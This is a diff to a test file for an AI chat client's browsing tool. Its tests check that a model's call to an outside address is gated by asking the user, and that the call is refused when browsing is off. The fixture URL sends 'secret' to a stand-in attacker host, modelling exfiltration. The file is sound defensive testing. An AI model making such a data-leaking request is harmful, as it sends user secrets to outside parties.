@@ -1,4 +1,5 @@
 import { describe, expect, test } from "vitest";
+import type { TurnOptions } from "../../../src/chat/turn/turn.ts";
 import { recordedCards } from "../../../src/ui/tools/toolCards.ts";
 import { ToolRegistry } from "../../../src/tools/catalog/toolRegistry.ts";
 import { plainOptions, waitUntil } from "../../helpers/chatBench.ts";
@@ -76,7 +77,7 @@ describe("the trace of a tool that ran on the server", () => {
 
 test("a call that comes although nothing was offered ends the turn", async () => {
 	const chat = await makeToolChat([calling(["c1", "list_files", {}])]);
-	for (const { name } of chat.bench.gate.offered()) {
+	for (const { name } of chat.bench.gate.offered(false)) {
 		chat.bench.off.add(name);
 	}
 	await askWith(chat, []);
@@ -93,4 +94,38 @@ test("U9: three calls of a tool that is switched off pause before the next reque
 	await askWith(chat, []);
 	expect(chat.pauses).toEqual(["badCalls"]);
 	expect(chat.server.posts).toBe(3);
+});
+
+describe("T36: Browsing of the local service", () => {
+	const url = "https://attacker.example/?d=secret";
+	const browse: TurnOptions = { ...plainOptions, serverTools: [], mayBrowse: true };
+
+	test("is a tool of ours, whose call the user is asked about", async () => {
+		const chat = await makeToolChat([calling(["b1", "browsing", { url }]), saying("Done.")]);
+		await chat.session.send("Go", browse);
+		await waitUntil(() => !chat.session.isBusy);
+		const [request] = chat.bodies();
+		expect(request).not.toHaveProperty("tools");
+		expect(JSON.stringify(request?.["custom_tools"])).toContain('"name":"browsing"');
+		expect(chat.bench.asked).toMatchObject([{ address: url }]);
+		expect(chat.bench.editor.effects).toEqual([]);
+		expect(chat.results()["b1"]).toMatch(/^Denied/);
+	});
+
+	test("is read at once where the user typed the address", async () => {
+		const chat = await makeToolChat([calling(["b1", "browsing", { url }]), saying("Done.")]);
+		chat.bench.gate.noteTyped(chat.session.id, [url]);
+		await chat.session.send(`Read ${url}`, browse);
+		await waitUntil(() => !chat.session.isBusy);
+		expect(chat.bench.asked).toEqual([]);
+		expect(chat.results()["b1"]).toContain("Word");
+	});
+
+	test("is not offered to a question that was asked without it, and a call of it is refused", async () => {
+		const chat = await makeToolChat([calling(["b1", "browsing", { url }]), saying("Done.")]);
+		await askWith(chat, []);
+		expect(JSON.stringify(chat.bodies()[0])).not.toContain('"name":"browsing"');
+		expect(chat.bench.asked).toEqual([]);
+		expect(chat.results()["b1"]).toContain("switched Browsing off");
+	});
 });
